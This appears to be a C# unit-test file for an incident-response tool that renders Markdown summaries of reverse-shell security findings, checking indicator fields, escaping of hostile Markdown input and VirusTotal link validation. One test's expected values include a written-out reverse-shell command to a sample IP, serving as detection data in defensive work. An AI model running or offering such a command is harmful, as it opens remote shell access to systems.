using ReverseShellFunction.Bundle;
using ReverseShellFunction.Intake;
using ReverseShellFunction.Tests.Support;

namespace ReverseShellFunction.Tests.Bundle;

public class SummaryMarkdownTest
{
    [Fact]
    public void Report_HasEveryFactTheResponderNeeds()
    {
        var summary = SummaryBuilder.Build(
            BundleId.For("organizations/1/sources/2/findings/f", DateTimeOffset.UnixEpoch),
            NotificationDecoder.Parse(TestData.Sample("reverse-shell.notification.json"), PipelineHarness.Now),
            [],
            DateTimeOffset.UnixEpoch);

        var md = SummaryMarkdown.Render(summary);

        foreach (var expected in new[]
        {
            "198.51.100.23:4444", "10.8.0.12:51834", "/bin/bash", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
            "https://www.virustotal.com/gui/file/d7f1c0b3a5e2e6f4c1b8a9d0e3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b4",
            "/usr/local/bin/node (pid 2790)", "checkout-api", "europe-west1", "shop-prod-4471", "602115830917",
            "sha256:3f9a1c7e5b2d4f6a8c0e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a", "CRITICAL",
            "[T1059 Command and Scripting Interpreter](https://attack.mitre.org/techniques/T1059/)",
            "[T1105 Ingress Tool Transfer](https://attack.mitre.org/techniques/T1105/)", "TA0002",
        })
        {
            Assert.Contains(expected, md, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void HostileArguments_CannotBreakOutOfCodeSpans()
    {
        var code = SummaryMarkdown.Code("a``b`\n[link](http://evil)");

        Assert.StartsWith("``` ", code, StringComparison.Ordinal);
        Assert.EndsWith(" ```", code, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', code);
        Assert.Equal(@"\[x\]\(y\) \<script\>", SummaryMarkdown.Plain("[x](y) <script>"));
    }

    [Theory]
    [InlineData("d7f1c0b3a5e2e6f4c1b8a9d0e3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b4", true)]
    [InlineData("../../evil", false)]
    [InlineData("d7f1c0b3a5e2e6f4c1b8a9d0e3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b", false)]
    [InlineData(null, false)]
    public void VirusTotalLink_OnlyForAWellFormedSha256(string? sha256, bool linked)
    {
        Assert.Equal(linked, SummaryBuilder.VirusTotalUrl(sha256) is not null);
    }
}
